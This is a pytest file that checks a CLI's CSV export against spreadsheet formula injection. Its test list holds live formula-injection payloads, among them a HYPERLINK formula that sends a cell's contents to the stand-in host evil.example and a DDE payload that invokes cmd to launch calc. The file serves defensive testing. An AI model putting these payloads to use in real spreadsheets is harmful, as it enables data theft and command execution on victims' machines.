"""Formula injection: no CSV cell the CLI writes starts like a spreadsheet formula (issue 17, OWASP)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from oversight.cells import FORMULA_STARTS, safe_cell
from oversight.cli import app
from oversight.graph.embedded_store import EmbeddedStore, StoreState
from oversight.graph.model import OversightGraph
from oversight.graph.standing import derive_standings

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


def test_plain_text_and_numbers_are_left_alone() -> None:
    assert (safe_cell("Improve call handling"), safe_cell(3), safe_cell(None)) == ("Improve call handling", 3, None)


@pytest.fixture()
def hostile_store(tmp_path: Path) -> Path:
    g = OversightGraph()
    g.add_node("x/peel-2021-22", "Inspection", {"title": PAYLOADS[0]})
    for n, payload in enumerate(PAYLOADS, 1):
        key = f"x/peel-2021-22/afi-{n:02d}"
        g.add_node(key, "AreaForImprovement", {"number": n, "text": payload, "deadline": "2023-01"})
        g.add_edge("x/peel-2021-22", "ISSUED", key)
    derive_standings(g)
    store = tmp_path / "store"
    EmbeddedStore(store).save(StoreState(graph=g))
    return store


@pytest.mark.parametrize("question", ["open-findings-by-owner", "overdue-findings", "inspection-outcomes", "governance-gaps"])
def test_no_csv_cell_of_a_question_starts_like_a_formula(hostile_store: Path, question: str) -> None:
    result = CliRunner().invoke(app, ["query", question, "--csv", "--store", str(hostile_store)], env={"OVERSIGHT_STORE": ""})
    cells = [cell for row in csv.reader(io.StringIO(result.stdout, newline="")) for cell in row]
    assert (result.exit_code, [c for c in cells if c.startswith(FORMULA_STARTS)]) == (0, [])


def test_the_payload_is_kept_readable_behind_the_quote(hostile_store: Path) -> None:
    result = CliRunner().invoke(app, ["query", "open-findings-by-owner", "--csv", "--store", str(hostile_store)])
    texts = [row["text"] for row in csv.DictReader(io.StringIO(result.stdout, newline=""))]
    assert texts[0] == "'" + PAYLOADS[0]
